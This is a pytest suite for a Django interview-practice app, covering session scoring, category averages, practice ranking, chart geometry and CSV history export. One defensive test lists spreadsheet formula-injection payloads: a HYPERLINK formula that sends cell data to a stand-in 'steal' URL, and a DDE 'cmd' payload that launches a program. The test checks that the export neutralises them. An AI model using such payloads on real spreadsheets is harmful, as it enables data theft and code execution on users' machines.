"""The progress queries and chart geometry, against interviews played through the services.

Every expected figure is worked out by hand from the answers given, in the comments beside it.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User

from questions.models import Category, Question, Scenario
from sessions import charts, export, progress, scoring, services
from sessions.models import Grade, InterviewSession
from tests.cast import T0, make_question, make_user, start_interview
from tests.histories import LATE, Answer, play

pytestmark = pytest.mark.django_db

MISSED, PARTIAL, SOLID, EXCELLENT = Grade.MISSED, Grade.PARTIAL, Grade.SOLID, Grade.EXCELLENT
DAY = timedelta(days=1)


@pytest.fixture
def questions() -> dict[int, Question]:
    """Questions 1–8 in "Fundamentals and Basics", 11–18 in "Transformer Architecture"."""
    fundamentals = Category.objects.create(
        name="Fundamentals and Basics", slug="fundamentals-and-basics", position=0
    )
    transformers = Category.objects.create(
        name="Transformer Architecture (11-20)", slug="transformer-architecture", position=1
    )
    made = [make_question(number, category=fundamentals) for number in range(1, 9)]
    made += [make_question(number, category=transformers) for number in range(11, 19)]
    return {question.number: question for question in made}


def pick(questions: dict[int, Question], *numbers: int) -> list[Question]:
    return [questions[number] for number in numbers]


def totals_of(session: InterviewSession) -> InterviewSession:
    return progress.sessions_with_totals(session.user).get(pk=session.pk)


class TestSessionsWithTotals:
    def test_it_adds_up_points_asked_timeouts_and_time(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        session = play(
            owner,
            pick(questions, 1, 2, 3, 4),
            [
                Answer(EXCELLENT, seconds=20),
                Answer(PARTIAL, seconds=LATE),
                Answer(MISSED, seconds=45),
                Answer(SOLID, seconds=LATE),
            ],
        )

        row = totals_of(session)

        # 3 + 1 + 0 + 2 = 6 of 12 points, all four graded; 20 + 90 + 45 + 90 s to reveal.
        assert (row.points, row.asked, row.graded, row.unanswered) == (6, 4, 4, 0)
        assert (row.item_total, row.timed_out) == (4, 2)
        assert row.time_taken == timedelta(seconds=245)
        assert row.score_percent == 50
        assert type(row.score_percent) is int

    def test_it_counts_only_the_items_shown_as_asked(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        # Two answers, then the third question is on screen when the interview is ended.
        session = play(
            owner,
            pick(questions, 1, 2, 3, 4, 5),
            [Answer(SOLID, seconds=30), Answer(PARTIAL, seconds=40)],
            end_early=True,
        )

        row = totals_of(session)

        # Three asked, two graded; the third was shown and left unanswered (never revealed);
        # the fourth and fifth were never shown, so they are neither asked nor unanswered.
        assert (row.points, row.asked, row.graded, row.unanswered) == (3, 3, 2, 1)
        assert (row.item_total, row.timed_out) == (5, 0)
        assert row.time_taken == timedelta(seconds=70)
        # 2 + 1 = 3 of 6 points over the two graded: the unanswered one is not a zero.
        assert row.score_percent == 50

    @pytest.mark.parametrize(
        ("grades", "percent"),
        [
            ([SOLID, MISSED, MISSED], 22),  # 2 / 9 = 22.2 %
            ([SOLID, SOLID, SOLID], 67),  # 6 / 9 = 66.7 %
            ([EXCELLENT, EXCELLENT, SOLID], 89),  # 8 / 9 = 88.9 %
            ([PARTIAL] * 3 + [MISSED] * 5, 13),  # 3 / 24 = 12.5 %, half rounds up
            ([EXCELLENT] * 5 + [MISSED] * 3, 63),  # 15 / 24 = 62.5 %, half rounds up
            ([EXCELLENT] * 3, 100),
            ([MISSED] * 3, 0),
        ],
    )
    def test_it_rounds_the_score_to_a_whole_percent(
        self, owner: User, questions: dict[int, Question], grades: list[int], percent: int
    ) -> None:
        numbers = list(questions)[: len(grades)]
        session = play(owner, pick(questions, *numbers), [Answer(grade) for grade in grades])

        assert totals_of(session).score_percent == percent

    def test_the_first_question_is_asked_from_the_start(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        # Ended five seconds in, before its page ever loaded: the first question was on the
        # clock from the start, so it is asked and unanswered; the second was never asked.
        session = start_interview(owner, pick(questions, 1, 2), now=T0)
        services.end_session(session=session, now=T0 + timedelta(seconds=5))

        row = totals_of(session)

        assert (row.points, row.asked, row.graded, row.unanswered) == (0, 1, 0, 1)
        assert (row.item_total, row.timed_out) == (2, 0)
        assert row.score_percent is None
        assert row.time_taken is None

    def test_it_has_no_score_when_nothing_was_graded(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        # Ended with the first question on screen ("Practise these", then ended at once): it
        # was asked and left unanswered, which is no score at all rather than 0 %.
        session = play(owner, pick(questions, 1, 2), [], end_early=True)

        row = totals_of(session)

        assert (row.points, row.asked, row.graded, row.unanswered) == (0, 1, 0, 1)
        assert row.score_percent is None
        assert [
            (c.name, c.graded, c.unanswered, c.percent)
            for c in scoring.category_scores(session.items.all())
        ] == [("Fundamentals and Basics", 0, 1, None)]

    def test_a_session_in_progress_is_scored_on_what_is_graded_so_far(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        # Solid on question 1, question 2 on screen: asked, but neither graded nor unanswered
        # while the interview is open.
        session = play(owner, pick(questions, 1, 2, 3), [Answer(SOLID)])

        row = totals_of(session)

        assert row.status == InterviewSession.Status.IN_PROGRESS
        assert (row.points, row.asked, row.graded, row.unanswered) == (2, 2, 1, 0)
        assert row.score_percent == 67  # 2 of 3

    def test_it_breaks_the_score_down_by_category(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        # Question 1: 3 points; 11: Partial after its clock ran out, 1 point; 2 is on screen
        # when the interview is ended (asked, unanswered); 12 is never shown.
        session = play(
            owner,
            pick(questions, 1, 11, 2, 12),
            [Answer(EXCELLENT), Answer(PARTIAL, seconds=LATE)],
            end_early=True,
        )

        row = totals_of(session)

        assert (row.points, row.asked, row.graded, row.unanswered) == (4, 3, 2, 1)
        assert (row.item_total, row.timed_out) == (4, 1)
        assert row.score_percent == 67  # 4 of 6: the unanswered question 2 is not a zero
        breakdown = scoring.category_scores(session.items.all())
        assert [(c.name, c.graded, c.points, c.unanswered, c.percent) for c in breakdown] == [
            ("Fundamentals and Basics", 1, 3, 1, 100),
            ("Transformer Architecture", 1, 1, 0, 33),
        ]

    def test_a_category_with_only_unanswered_items_has_no_percentage(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        # 1 and 2 graded; 11 on screen when the interview is ended; 12 never shown.
        session = play(
            owner,
            pick(questions, 1, 2, 11, 12),
            [Answer(EXCELLENT), Answer(PARTIAL)],
            end_early=True,
        )

        breakdown = scoring.category_scores(session.items.all())

        assert [(c.name, c.graded, c.points, c.unanswered, c.percent) for c in breakdown] == [
            ("Fundamentals and Basics", 2, 4, 0, 67),  # 4 of 6
            ("Transformer Architecture", 0, 0, 1, None),
        ]
        assert totals_of(session).score_percent == 67

    def test_it_lists_only_the_users_sessions_newest_first(
        self, owner: User, other_user: User, questions: dict[int, Question]
    ) -> None:
        first = play(owner, pick(questions, 1), [Answer(SOLID)], at=T0)
        second = play(owner, pick(questions, 2), [Answer(MISSED)], at=T0 + DAY)
        play(other_user, pick(questions, 3), [Answer(EXCELLENT)], at=T0 + 2 * DAY)

        rows = progress.sessions_with_totals(owner)

        assert [(row.pk, row.score_percent) for row in rows] == [(second.pk, 0), (first.pk, 67)]


class TestScoreSeries:
    @pytest.fixture
    def history(
        self, owner: User, other_user: User, questions: dict[int, Question]
    ) -> list[InterviewSession]:
        """Eight sessions a day apart; only the four closed ones with a graded item chart."""
        finished = play(
            owner, pick(questions, 1, 2), [Answer(EXCELLENT), Answer(MISSED)], at=T0
        )  # 3 / 6 = 50 %
        ended = play(
            owner, pick(questions, 3, 4, 5), [Answer(PARTIAL)], at=T0 + DAY, end_early=True
        )  # two asked, one graded (the other unanswered): 1 / 3 = 33 %
        play(owner, pick(questions, 6, 7), [Answer(EXCELLENT)], at=T0 + 2 * DAY)  # in progress
        nothing_asked = start_interview(owner, pick(questions, 8), now=T0 + 3 * DAY)
        services.end_session(session=nothing_asked, now=T0 + 3 * DAY)
        # Ended at once with its first question on screen: asked, nothing graded, no score.
        play(owner, pick(questions, 14), [], at=T0 + 4 * DAY, end_early=True)
        # Left open and ended as abandoned a day later: its graded item still counts.
        abandoned = play(owner, pick(questions, 15, 16), [Answer(SOLID)], at=T0 + 5 * DAY)
        services.end_session(
            session=abandoned, now=T0 + 6 * DAY, status=InterviewSession.Status.ABANDONED
        )  # 2 / 3 = 67 %
        # Abandoned with nothing graded: no score, off the chart.
        abandoned_unanswered = play(owner, pick(questions, 17), [], at=T0 + 6 * DAY)
        services.show_current_item(session=abandoned_unanswered, now=T0 + 6 * DAY)
        services.end_session(
            session=abandoned_unanswered, now=T0 + 7 * DAY, status=InterviewSession.Status.ABANDONED
        )
        best = play(
            owner, pick(questions, 11, 12), [Answer(EXCELLENT), Answer(EXCELLENT)], at=T0 + 7 * DAY
        )  # 100 %
        play(other_user, pick(questions, 13), [Answer(SOLID)], at=T0 + 8 * DAY)
        return [finished, ended, abandoned, best]

    def test_it_charts_closed_sessions_with_a_graded_item_oldest_first(
        self, owner: User, history: list[InterviewSession]
    ) -> None:
        finished, ended, abandoned, best = history

        series = progress.score_series(owner)

        assert series == [
            progress.ScorePoint(finished.pk, T0, 50),
            progress.ScorePoint(ended.pk, T0 + DAY, 33),
            progress.ScorePoint(abandoned.pk, T0 + 5 * DAY, 67),
            progress.ScorePoint(best.pk, T0 + 7 * DAY, 100),
        ]
        assert all(type(point.percent) is int for point in series)

    def test_it_keeps_the_latest_sessions_up_to_the_limit(
        self, owner: User, history: list[InterviewSession]
    ) -> None:
        _, _, abandoned, best = history

        series = progress.score_series(owner, limit=2)

        assert [point.session_id for point in series] == [abandoned.pk, best.pk]

    def test_it_is_empty_for_a_newcomer(self, owner: User, history: list[InterviewSession]) -> None:
        assert progress.score_series(make_user("newcomer")) == []

    def test_it_looks_past_a_run_of_sessions_without_a_score(
        self, owner: User, history: list[InterviewSession], questions: dict[int, Question]
    ) -> None:
        # The latest 2 × limit closed sessions are read first; four ended at once fill that
        # window with nothing to chart, so the older scored ones are found in the rest.
        for day in range(8, 12):
            play(owner, pick(questions, 18), [], at=T0 + day * DAY, end_early=True)
        _, _, abandoned, best = history

        series = progress.score_series(owner, limit=2)

        assert [point.session_id for point in series] == [abandoned.pk, best.pk]


class TestCategoryAverages:
    def test_it_averages_graded_items_per_category_weakest_last(
        self, owner: User, other_user: User, questions: dict[int, Question]
    ) -> None:
        play(
            owner,
            pick(questions, 1, 2, 11, 3, 12),
            [Answer(EXCELLENT), Answer(PARTIAL), Answer(SOLID), Answer(MISSED), Answer(SOLID)],
        )
        # Question 13 is shown and then left unanswered: reported as such, not averaged.
        play(
            owner,
            pick(questions, 4, 11, 13),
            [Answer(SOLID), Answer(EXCELLENT)],
            at=T0 + DAY,
            end_early=True,
        )
        play(other_user, pick(questions, 11, 12), [Answer(MISSED), Answer(MISSED)])

        rows = progress.category_averages(owner)

        # Fundamentals: 3 + 1 + 0 + 2 = 6 points over 4 graded items, 6 of 12 = 50 %.
        # Transformers: 2 + 2 + 3 = 7 points over 3 graded items, 7 of 9 = 78 % (not 7 of 12:
        # the unanswered question 13 is counted apart). The other user's Missed count nowhere.
        assert [
            (row.name, row.graded, row.points, row.unanswered, row.percent, row.band)
            for row in rows
        ] == [
            ("Fundamentals and Basics", 4, 6, 0, 50, "fair"),
            ("Transformer Architecture", 3, 7, 1, 78, "strong"),
        ]

    def test_it_puts_the_weakest_category_first(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        play(owner, pick(questions, 1, 11), [Answer(SOLID), Answer(PARTIAL)])

        rows = progress.category_averages(owner)

        assert [(row.name, row.percent, row.band) for row in rows] == [
            ("Transformer Architecture", 33, "weak"),
            ("Fundamentals and Basics", 67, "fair"),
        ]

    def test_it_rounds_half_up_like_the_session_scores(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        grades = [PARTIAL] * 3 + [MISSED] * 5
        session = play(owner, pick(questions, *range(1, 9)), [Answer(grade) for grade in grades])

        (row,) = progress.category_averages(owner)

        # 3 points over 8 items: 12.5 %, the same figure the session's score rounds to.
        assert row.percent == totals_of(session).score_percent == 13

    def test_it_agrees_with_the_summarys_breakdown(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        # The summary's category table and the dashboard read the same rule: with one
        # interview, they are the same figures (the dashboard leaving out nothing-graded rows).
        session = play(
            owner,
            pick(questions, 11, 1, 2, 12, 13),
            [Answer(PARTIAL), Answer(SOLID), Answer(EXCELLENT, seconds=LATE)],
            end_early=True,
        )

        summary = scoring.category_scores(session.items.all())
        dashboard = progress.category_averages(owner)

        # Transformers: 1 of 3 graded, 12 unanswered; Fundamentals: 2 + 3 of 6.
        assert summary == [
            scoring.CategoryScore("Fundamentals and Basics", graded=2, points=5, unanswered=0),
            scoring.CategoryScore("Transformer Architecture", graded=1, points=1, unanswered=1),
        ]
        assert dashboard == sorted(summary, key=lambda row: row.points / row.graded)
        assert [(row.name, row.percent) for row in dashboard] == [
            ("Transformer Architecture", 33),
            ("Fundamentals and Basics", 83),
        ]

    def test_it_is_empty_without_graded_items(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        play(owner, pick(questions, 1, 2), [], end_early=True)

        assert progress.category_averages(owner) == []


class TestQuestionsToPractise:
    @pytest.fixture
    def history(self, owner: User, other_user: User, questions: dict[int, Question]) -> None:
        play(
            owner,
            pick(questions, 1, 2, 3, 4, 5, 13),
            [
                Answer(MISSED),
                Answer(PARTIAL, seconds=LATE),
                Answer(EXCELLENT),
                Answer(EXCELLENT),
                Answer(MISSED),
                Answer(MISSED, seconds=LATE),
            ],
            at=T0,
        )
        # Question 11 is on screen when this one is ended: its attempt counts as unanswered.
        play(
            owner,
            pick(questions, 3, 5, 13, 11, 6),
            [
                Answer(SOLID, seconds=LATE),
                Answer(SOLID),
                Answer(MISSED, seconds=LATE),
            ],
            at=T0 + DAY,
            end_early=True,
        )
        play(owner, pick(questions, 12), [Answer(MISSED)], at=T0 + 2 * DAY)
        Question.objects.filter(number=12).update(is_active=False)
        play(other_user, pick(questions, 4, 7), [Answer(MISSED, seconds=LATE), Answer(MISSED)])

    def test_it_ranks_by_last_grade_then_timeouts(self, owner: User, history: None) -> None:
        weakest = progress.questions_to_practise(owner)

        # Unanswered (no grade) first; then Missed with two timeouts before Missed with none;
        # Partial; then Solid, whose last answer ran out of time. Question 5 recovered to
        # Solid, 4 was Excellent (only the other user missed it), 12 was retired.
        assert [
            (q.number, q.last_grade, q.last_grade_label, q.timed_out, q.attempts) for q in weakest
        ] == [
            (11, None, "Unanswered", 0, 1),
            (13, MISSED, "Missed", 2, 2),
            (1, MISSED, "Missed", 0, 1),
            (2, PARTIAL, "Partial", 1, 1),
            (3, SOLID, "Solid", 1, 2),
        ]
        assert weakest[0].title == "Question 11?"

    def test_it_stops_at_the_limit(self, owner: User, history: None) -> None:
        assert [q.number for q in progress.questions_to_practise(owner, limit=2)] == [11, 13]

    def test_by_default_it_lists_the_six_worst(self, owner: User, history: None) -> None:
        # Two more weak questions make seven: the Solid-but-late question 3 falls off the end.
        play(
            owner,
            [make_question(98), make_question(99)],
            [Answer(MISSED), Answer(PARTIAL)],
            at=T0 + 3 * DAY,
        )

        listed = [q.number for q in progress.questions_to_practise(owner)]

        assert progress.PRACTISE_LIMIT == 6
        assert listed == [11, 13, 1, 98, 2, 99]

    def test_a_partial_answer_in_time_is_still_weak(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        # On time, so only the grade can keep question 1 on the list; Solid on time drops out.
        play(owner, pick(questions, 1, 2), [Answer(PARTIAL), Answer(SOLID)])

        weakest = progress.questions_to_practise(owner)

        assert [(q.number, q.last_grade, q.timed_out) for q in weakest] == [(1, PARTIAL, 0)]

    def test_a_question_answered_well_in_time_drops_out(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        play(
            owner,
            pick(questions, 1, 2),
            [Answer(MISSED, seconds=LATE), Answer(PARTIAL, seconds=LATE)],
        )
        assert [q.number for q in progress.questions_to_practise(owner)] == [1, 2]

        play(owner, pick(questions, 1), [Answer(SOLID, seconds=20)], at=T0 + DAY)

        # Missed and out of time before; Solid and in time since.
        assert [q.number for q in progress.questions_to_practise(owner)] == [2]

    def test_the_question_being_asked_now_is_not_counted_as_unanswered(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        play(owner, pick(questions, 1, 2), [Answer(EXCELLENT), Answer(MISSED)])
        # A new interview is open on question 1: shown, not yet answered.
        session = start_interview(owner, pick(questions, 1), now=T0 + DAY)
        services.show_current_item(session=session, now=T0 + DAY)

        weakest = progress.questions_to_practise(owner)

        assert [(q.number, q.last_grade_label, q.attempts) for q in weakest] == [(2, "Missed", 1)]

    def test_it_is_empty_when_everything_went_well(
        self, owner: User, other_user: User, questions: dict[int, Question]
    ) -> None:
        play(owner, pick(questions, 1, 2), [Answer(SOLID), Answer(EXCELLENT)])
        play(other_user, pick(questions, 1, 2), [Answer(MISSED), Answer(MISSED)])

        assert progress.questions_to_practise(owner) == []


class TestQuestionAttempts:
    def test_it_lists_the_users_attempts_newest_first(
        self, owner: User, other_user: User, questions: dict[int, Question]
    ) -> None:
        Scenario.objects.create(
            question=questions[1], label="1.1", prompt="A scenario.", answer="Its answer."
        )
        first = play(owner, pick(questions, 1, 2), [Answer(MISSED, seconds=30)], at=T0)
        # With its follow-up this time: the follow-up is not an attempt at the question.
        second = play(
            owner,
            pick(questions, 1),
            [Answer(PARTIAL, seconds=LATE), Answer(EXCELLENT)],
            at=T0 + DAY,
            include_scenarios=True,
        )
        third = play(owner, pick(questions, 1), [], at=T0 + 2 * DAY, end_early=True)
        play(other_user, pick(questions, 1), [Answer(EXCELLENT)], at=T0 + 3 * DAY)
        play(owner, pick(questions, 2), [Answer(SOLID)], at=T0 + 4 * DAY)

        attempts = progress.question_attempts(owner, questions[1])

        assert [
            (a.session_id, a.started_at, a.grade_label, a.time_taken, a.timed_out, a.skipped)
            for a in attempts
        ] == [
            (third.pk, T0 + 2 * DAY, "Unanswered", None, False, True),
            (second.pk, T0 + DAY, "Partial", timedelta(seconds=LATE), True, False),
            (first.pk, T0, "Missed", timedelta(seconds=30), False, False),
        ]
        assert [a.grade for a in attempts] == [None, PARTIAL, MISSED]

    def test_an_attempt_in_progress_says_so(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        session = play(owner, pick(questions, 2, 1), [Answer(SOLID)])  # now on question 1

        (attempt,) = progress.question_attempts(owner, questions[1])

        assert (attempt.session_id, attempt.grade_label, attempt.time_taken) == (
            session.pk,
            "In progress",
            None,
        )

    def test_it_is_empty_for_a_question_never_asked(
        self, owner: User, other_user: User, questions: dict[int, Question]
    ) -> None:
        play(other_user, pick(questions, 1), [Answer(SOLID)])
        # Drawn into an interview that ended before it: not shown, so not an attempt.
        play(owner, pick(questions, 2, 3, 1), [], end_early=True)

        assert progress.question_attempts(owner, questions[1]) == []


class TestCharts:
    def test_there_is_no_chart_without_scores(self) -> None:
        assert charts.score_chart([]) is None

    def test_a_single_score_sits_in_the_middle(self) -> None:
        chart = charts.score_chart([progress.ScorePoint(1, T0, 50)])

        assert chart is not None
        # The plot spans x 44–624 and y 16 (100 %) to 212 (0 %).
        ((point),) = chart.points
        assert (point.x, point.y) == (334, 114)
        assert chart.polyline == "334.0,114.0"

    def test_scores_spread_from_the_left_edge_to_the_right(self) -> None:
        series = [
            progress.ScorePoint(1, T0, 0),
            progress.ScorePoint(2, T0 + DAY, 100),
            progress.ScorePoint(3, T0 + 2 * DAY, 25),
        ]

        chart = charts.score_chart(series)

        assert chart is not None
        assert [(p.x, p.y, p.point.session_id) for p in chart.points] == [
            (44, 212, 1),
            (334, 16, 2),
            (624, 163, 3),
        ]
        assert chart.polyline == "44.0,212.0 334.0,16.0 624.0,163.0"
        assert (chart.width, chart.height, chart.left, chart.right) == (640, 240, 44, 624)

    def test_points_on_one_day_are_told_apart_by_their_time(self, settings: Any) -> None:
        settings.TIME_ZONE = "UTC"
        series = [
            progress.ScorePoint(1, datetime(2026, 12, 1, 18, 0, tzinfo=UTC), 40),
            progress.ScorePoint(2, datetime(2026, 12, 2, 9, 5, tzinfo=UTC), 50),
            progress.ScorePoint(3, datetime(2026, 12, 2, 14, 30, tzinfo=UTC), 70),
        ]

        chart = charts.score_chart(series)

        assert chart is not None
        assert [p.label for p in chart.points] == ["1 Dec", "2 Dec, 09:05", "2 Dec, 14:30"]
        assert chart.note == ""  # three points draw their own trend

    @pytest.mark.parametrize(
        ("percents", "note"),
        [
            ([50], "One interview so far: 50% (2 Dec). Two more and this shows your trend."),
            (
                [40, 60],
                "Two interviews so far: 40% then 60%, up 20 points. One more shows a trend.",
            ),
            (
                [60, 45],
                "Two interviews so far: 60% then 45%, down 15 points. One more shows a trend.",
            ),
            ([50, 50], "Two interviews so far: 50% then 50%, unchanged. One more shows a trend."),
        ],
    )
    def test_a_short_series_says_what_it_can(
        self, settings: Any, percents: list[int], note: str
    ) -> None:
        settings.TIME_ZONE = "UTC"
        start = datetime(2026, 12, 2, 9, 0, tzinfo=UTC)
        series = [
            progress.ScorePoint(index, start + index * DAY, percent)
            for index, percent in enumerate(percents)
        ]

        chart = charts.score_chart(series)

        assert chart is not None
        assert chart.note == note

    def test_the_grid_marks_every_quarter(self) -> None:
        chart = charts.score_chart([progress.ScorePoint(1, T0, 80)])

        assert chart is not None
        assert [(line.y, line.label) for line in chart.grid] == [
            (212, "0%"),
            (163, "25%"),
            (114, "50%"),
            (65, "75%"),
            (16, "100%"),
        ]

    def test_bars_are_as_wide_as_the_percent_and_never_invisible(self) -> None:
        rows = [
            scoring.CategoryScore("Nothing right", graded=2, points=0),  # 0 %
            scoring.CategoryScore("Half", graded=2, points=3),  # 3 of 6: 50 %
            scoring.CategoryScore("All right", graded=1, points=3),  # 100 %
            # Unanswered items never widen a bar: 3 of 6 over the two graded.
            scoring.CategoryScore("Half, some unanswered", graded=2, points=3, unanswered=4),
        ]

        assert [row.bar_width for row in rows] == [1, 50, 100, 50]
        assert [row.band for row in rows] == ["weak", "fair", "strong", "fair"]


class TestHistoryCsv:
    HEADER = [
        "session", "session_started_at", "mode", "session_status", "position", "kind", "label",
        "category", "question_number", "grade", "points", "timed_out", "skipped",
        "shown_at", "revealed_at", "graded_at", "seconds_taken",
        "key_points_total", "key_points_covered", "rating", "reviewed_at", "notes",
    ]  # fmt: skip

    @staticmethod
    def rows(user: User) -> list[list[str]]:
        return list(csv.reader(io.StringIO("".join(export.history_csv_lines(user)))))

    def test_it_writes_one_row_per_item_with_its_values(
        self, owner: User, questions: dict[int, Question]
    ) -> None:
        finished = play(
            owner,
            pick(questions, 1, 11),
            [Answer(EXCELLENT, seconds=20, notes="Sampling, in short."), Answer(PARTIAL, LATE)],
            at=T0,
        )
        ended = play(
            owner, pick(questions, 2, 3, 4), [Answer(SOLID, 40)], at=T0 + DAY, end_early=True
        )

        header, *rows = self.rows(owner)

        assert header == self.HEADER == export.CSV_HEADER
        assert len(rows) == 5
        s1, s2 = str(finished.pk), str(ended.pk)
        points = {number: str(questions[number].key_points.count()) for number in (1, 3, 4, 11)}
        day0, day1 = "2025-03-01T09:00", "2025-03-02T09:00"
        assert rows[0] == [
            s1, f"{day0}:00+00:00", "timed", "finished", "1", "question", "Bank question 1",
            "Fundamentals and Basics", "1", "Excellent", "3", "no", "no",
            f"{day0}:00+00:00", f"{day0}:20+00:00", f"{day0}:25+00:00", "20", points[1], "0",
            "Easy", f"{day0}:25+00:00", "Sampling, in short.",
        ]  # fmt: skip
        # Question 11 was shown when question 1 was graded, at 9:00:25.
        assert rows[1] == [
            s1, f"{day0}:00+00:00", "timed", "finished", "2", "question", "Bank question 11",
            "Transformer Architecture", "11", "Partial", "1", "yes", "no",
            f"{day0}:25+00:00", "2025-03-01T09:01:55+00:00", "2025-03-01T09:02:00+00:00", "90",
            points[11], "0", "Hard", "2025-03-01T09:02:00+00:00", "",
        ]  # fmt: skip
        assert rows[2][0:13] == [
            s2, f"{day1}:00+00:00", "timed", "ended_early", "1", "question", "Bank question 2",
            "Fundamentals and Basics", "2", "Solid", "2", "no", "no",
        ]  # fmt: skip
        # The second was on screen when the interview ended (unanswered); the third was never
        # shown (not asked). Both are recorded as skipped, neither has points.
        assert rows[3][4:] == [
            "2", "question", "Bank question 3", "Fundamentals and Basics", "3", "Unanswered", "",
            "no", "yes", f"{day1}:45+00:00", "", "", "", points[3], "", "", "", "",
        ]  # fmt: skip
        assert rows[4][4:] == [
            "3", "question", "Bank question 4", "Fundamentals and Basics", "4", "Not asked", "",
            "no", "yes", "", "", "", "", points[4], "", "", "", "",
        ]  # fmt: skip

    @pytest.mark.parametrize(
        "notes",
        [
            '=HYPERLINK("https://example.com/steal?"&A1, "Click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
        ],
    )
    def test_it_defuses_notes_a_spreadsheet_would_run_as_a_formula(
        self, owner: User, questions: dict[int, Question], notes: str
    ) -> None:
        play(owner, pick(questions, 1), [Answer(SOLID, notes=notes)])

        _, row = self.rows(owner)

        assert row[-1] == f"'{notes}"

    @pytest.mark.parametrize(
        "notes", ["Attention is O(n²) = slow", "'already quoted", "Sum: a+b", " =spaced"]
    )
    def test_it_leaves_other_notes_as_written(
        self, owner: User, questions: dict[int, Question], notes: str
    ) -> None:
        play(owner, pick(questions, 1), [Answer(SOLID, notes=notes)])

        _, row = self.rows(owner)

        assert row[-1] == notes

    def test_it_never_includes_another_users_items(
        self, owner: User, other_user: User, questions: dict[int, Question]
    ) -> None:
        mine = play(owner, pick(questions, 1), [Answer(SOLID, notes="mine")])
        play(other_user, pick(questions, 1, 2), [Answer(MISSED, notes="theirs"), Answer(MISSED)])

        _, *rows = self.rows(owner)

        assert [(row[0], row[8], row[-1]) for row in rows] == [(str(mine.pk), "1", "mine")]

    def test_it_is_only_the_header_for_a_newcomer(self, owner: User) -> None:
        assert self.rows(owner) == [self.HEADER]
